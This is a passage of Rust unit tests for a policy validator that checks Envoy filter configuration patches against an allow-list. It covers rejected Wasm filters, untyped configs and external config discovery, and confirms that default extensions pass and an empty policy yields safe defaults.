            "name": "ecds", "configDiscovery": {"configSource": {"apiConfigSource": {"apiType": "GRPC"}},
                "typeUrls": ["type.googleapis.com/envoy.extensions.filters.http.buffer.v3.Buffer",
                             "type.googleapis.com/envoy.extensions.filters.http.wasm.v3.Wasm"]}}}},
            {"applyTo": "HTTP_FILTER", "patch": {"operation": "INSERT_FIRST", "value": {
            "name": "by-struct", "typedConfig": {"@type": "type.googleapis.com/google.protobuf.Struct", "value": {}}}}}]);
        let v = violations(&EnvoyFilterPolicy::default(), filters.clone());
        let fields: Vec<&str> = v.iter().map(|(f, _)| f.as_str()).collect();
        assert_eq!(
            fields,
            [
                "spec.configPatches[0].patch.value.typedConfig",
                "spec.configPatches[1].patch.value.configDiscovery.typeUrls[1]",
                "spec.configPatches[1].patch.value.configDiscovery.configSource.apiConfigSource",
                "spec.configPatches[2].patch.value.typedConfig",
            ]
        );
        assert!(v[0].1.contains("without @type"), "{v:?}");
        assert!(
            v[1].1
                .contains("filter type envoy.extensions.filters.http.wasm.v3.Wasm"),
            "{v:?}"
        );
        assert!(v[2].1.contains("server other than the instance"), "{v:?}");
        assert!(v[3].1.contains("google.protobuf.Struct"), "{v:?}");
        assert!(violations(&EnvoyFilterPolicy::permissive(), filters).is_empty());
    }

    /// What the default policy allows beyond filters still passes: stdout logs, a compressor
    /// with its library, an LB policy, upstream protocol options, per-route configs.
    #[test]
    fn the_default_extensions_still_pass() {
        let patches = json!([
            {"applyTo": "HTTP_FILTER", "patch": {"operation": "INSERT_FIRST", "value": {
                "name": "envoy.filters.http.compressor", "typedConfig": {
                    "@type": "type.googleapis.com/envoy.extensions.filters.http.compressor.v3.Compressor",
                    "compressorLibrary": {"name": "gzip", "typedConfig": {"@type": "type.googleapis.com/envoy.extensions.compression.gzip.compressor.v3.Gzip"}}}}}},
            {"applyTo": "NETWORK_FILTER", "patch": {"operation": "MERGE", "value": {"typedConfig": {
                "@type": "type.googleapis.com/envoy.extensions.filters.network.http_connection_manager.v3.HttpConnectionManager",
                "rds": {"routeConfigName": "80", "configSource": {"ads": {}}},
                "accessLog": [{"name": "stdout", "typedConfig": {"@type": "type.googleapis.com/envoy.extensions.access_loggers.stream.v3.StdoutAccessLog"}}]}}}},
            {"applyTo": "CLUSTER", "patch": {"operation": "MERGE", "value": {
                "loadBalancingPolicy": {"policies": [{"typedExtensionConfig": {"name": "lr", "typedConfig": {"@type": "type.googleapis.com/envoy.extensions.load_balancing_policies.least_request.v3.LeastRequest"}}}]},
                "typedExtensionProtocolOptions": {"envoy.extensions.upstreams.http.v3.HttpProtocolOptions": {
                    "@type": "type.googleapis.com/envoy.extensions.upstreams.http.v3.HttpProtocolOptions"}}}}},
            {"applyTo": "VIRTUAL_HOST", "patch": {"operation": "MERGE", "value": {"typedPerFilterConfig": {
                "envoy.filters.http.buffer": {"@type": "type.googleapis.com/envoy.config.route.v3.FilterConfig", "config": {
                    "@type": "type.googleapis.com/envoy.extensions.filters.http.buffer.v3.BufferPerRoute", "disabled": true}}}}}}
        ]);
        assert_eq!(violations(&EnvoyFilterPolicy::default(), patches), []);
    }

    #[test]
    fn an_absent_policy_reads_as_the_safe_defaults() {
        let p: EnvoyFilterPolicy = serde_json::from_value(json!({})).expect("defaults");
        assert_eq!(p, EnvoyFilterPolicy::default());
        assert!(!p.allow_lua && !p.allow_added_clusters);
        assert_eq!(p.allowed_extension_types, DEFAULT_EXTENSION_TYPES);
    }
}
